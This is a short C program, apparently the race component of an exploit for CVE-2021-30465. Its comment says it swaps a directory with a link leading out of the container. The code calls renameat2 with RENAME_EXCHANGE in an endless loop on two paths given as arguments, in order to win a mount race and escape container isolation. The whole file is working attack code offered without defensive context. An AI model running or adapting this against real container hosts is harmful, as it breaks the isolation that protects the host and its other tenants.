// Swaps two names of one directory for each other, over and over: a directory and a link that leads out of the container
// (CVE-2021-30465). renameat2(2), RENAME_EXCHANGE.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>

int main(int count, char **arguments) {
    if (count != 3) return 2;
    for (;;) renameat2(AT_FDCWD, arguments[1], AT_FDCWD, arguments[2], RENAME_EXCHANGE);
}
